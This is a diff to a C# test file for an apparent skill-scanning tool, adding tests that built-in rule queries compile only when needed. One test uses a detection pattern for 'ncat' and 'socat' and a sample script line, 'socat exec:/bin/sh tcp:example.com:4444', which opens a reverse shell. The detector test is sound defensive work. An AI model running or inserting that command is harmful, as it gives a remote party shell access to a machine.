@@ -133,6 +133,55 @@ public class PackLoadingTests
     }
 
     [Fact]
+    public void EveryBuiltinQueryRulesOutFromItsTextWhatItsCompiledFormRulesOut()
+    {
+        // A built-in query is skipped, uncompiled, on a file its text's precondition rules out: that precondition
+        // must be the compiled one, never stricter (a missed finding) and not looser (a compile paid for nothing).
+        var checkedQueries = 0;
+        foreach (var name in EmbeddedRules.Names("rules/packs/"))
+        {
+            var stream = new YamlDotNet.RepresentationModel.YamlStream();
+            stream.Load(new StringReader(EmbeddedRules.Read(name)!));
+            foreach (var node in stream.Documents[0].AllNodes.OfType<YamlDotNet.RepresentationModel.YamlMappingNode>())
+            {
+                if (node.Children.TryGetValue(new YamlDotNet.RepresentationModel.YamlScalarNode("query"), out var q) &&
+                    q is YamlDotNet.RepresentationModel.YamlMappingNode byLanguage)
+                {
+                    foreach (var (key, text) in byLanguage.Children)
+                    {
+                        var id = ((YamlDotNet.RepresentationModel.YamlScalarNode)key).Value!;
+                        if (id == "message") continue;
+                        Assert.True(LanguageNames.TryParse(id, out var language), id);
+                        var source = ((YamlDotNet.RepresentationModel.YamlScalarNode)text).Value!;
+                        using var compiled = SkillScan.TreeSitter.TsQuery.Compile(SkillScan.Syntax.TreeSitterFrontEnd.ToTs(language), source);
+                        Assert.Equal(compiled.Precondition.Describe(), SkillScan.TreeSitter.TsQueryPrecondition.FromSource(source).Describe());
+                        Assert.DoesNotContain("", compiled.Precondition.Describe()); // each built-in query demands some text
+                        checkedQueries++;
+                    }
+                }
+            }
+        }
+        Assert.True(checkedQueries >= 8, $"{checkedQueries} built-in queries found");
+    }
+
+    [Fact]
+    public void ABuiltinQueryIsNotCompiledForAFileItsTextRulesOut()
+    {
+        const string match = "      query:\n        bash: |\n          ((command name: (command_name) @n) @finding (#any-of? @n \"ncat\" \"socat\"))\n";
+        var pack = RulePackLoader.Parse($"pack: t\nrules:\n{Descriptor}\n    languages: [bash]\n    match:\n{match}", "t.yaml", builtin: true);
+        var query = ((QueryMatcher)pack.Rules[0].Matcher).Queries[Language.Bash];
+        var engine = SkillScan.Pipeline.EngineFactory.Create(pack.Rules);
+        SkillFile Script(string text) => new("run.sh", "s/run.sh", System.Text.Encoding.UTF8.GetBytes(text), Language.Bash);
+
+        Assert.Empty(engine.AnalyzeSkill(new Skill("s", "s", [Script("ls -la\necho done\n")])).Findings);
+        Assert.False(query.Query.IsValueCreated);
+
+        var found = engine.AnalyzeSkill(new Skill("s", "s", [Script("ls\nsocat exec:/bin/sh tcp:example.com:4444\n")])).Findings;
+        Assert.Equal("SS9001", Assert.Single(found).Rule.Id);
+        Assert.True(query.Query.IsValueCreated);
+    }
+
+    [Fact]
     public void BadRegexIsRejected()
     {
         var ex = Reject("      text:\n        pattern: '(unclosed'\n");
